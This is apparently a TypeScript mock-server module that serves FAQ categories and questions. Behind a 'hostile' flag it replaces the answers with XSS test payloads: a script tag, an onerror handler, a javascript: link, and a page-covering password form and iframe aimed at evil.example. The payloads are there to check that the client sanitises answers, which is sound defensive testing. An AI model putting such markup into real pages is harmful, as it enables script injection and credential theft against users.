import { type Reply, reply } from '../http.ts';
import faq from './faq.json' with { type: 'json' };
import { contentGuid, type ContentLanguage } from './pages.ts';

const categoryKind = 2;
const subcategoryKind = 3;
const questionKind = 4;

const numbered = faq.map((category, index) => ({
  ...category,
  id: contentGuid(categoryKind, index + 1),
  number: index + 1,
}));

const subcategories = numbered.flatMap((category) =>
  category.subcategories.map((subcategory, index) => ({
    ...subcategory,
    parent: category.id,
    id: contentGuid(subcategoryKind, category.number * 100 + index + 1),
  })),
);

// For the `hostile` knob: answers that try to run script or change the page. None may reach a member.
const hostileAnswers: readonly string[] = [
  '<p>Before<script>window.hacked = true</script>after</p>',
  '<p><img src="x" onerror="window.hacked = true">picture</p>',
  '<p><a href="javascript:window.hacked = true">link</a></p>',
  '<p style="position:fixed;inset:0">covering</p><form action="https://evil.example/"><input name="password"></form>',
  '<svg><a xlink:href="data:text/html,hello"><text>drawing</text></a></svg><iframe src="https://evil.example/"></iframe>',
];

const questions = (language: ContentLanguage, id: string, isHostile: boolean) =>
  (subcategories.find((subcategory) => subcategory.id === id)?.questions ?? []).map(
    ({ question, answer }, index) => ({
      Id: contentGuid(questionKind, Number(id.slice(-12)) * 100 + index + 1),
      QuestionText: question[language],
      AnswerText: isHostile ? hostileAnswers.join('') : answer[language],
    }),
  );

// Every main item has all categories; unknown ids have none (contract 5). Undefined for other paths.
export const faqAnswer = (path: string, language: ContentLanguage, isHostile: boolean): Reply | undefined => {
  const [, kind, id = ''] =
    /^(faqmains|faqcategories|faqsubcategories)\(([^)]*)\)\/(?:FAQCategories|Subcategories|Questions)$/i.exec(
      path,
    ) ?? [];
  switch (kind?.toLowerCase()) {
    case 'faqmains':
      return reply.json({
        value: numbered.map(({ id: Id, name, urlName }) => ({ Id, Name: name[language], UrlName: urlName })),
      });
    case 'faqcategories':
      return reply.json({
        value: subcategories
          .filter(({ parent }) => parent === id)
          .map((one) => ({ Id: one.id, Name: one.name[language] })),
      });
    case 'faqsubcategories':
      return reply.json({ value: questions(language, id, isHostile) });
    default:
      return undefined;
  }
};
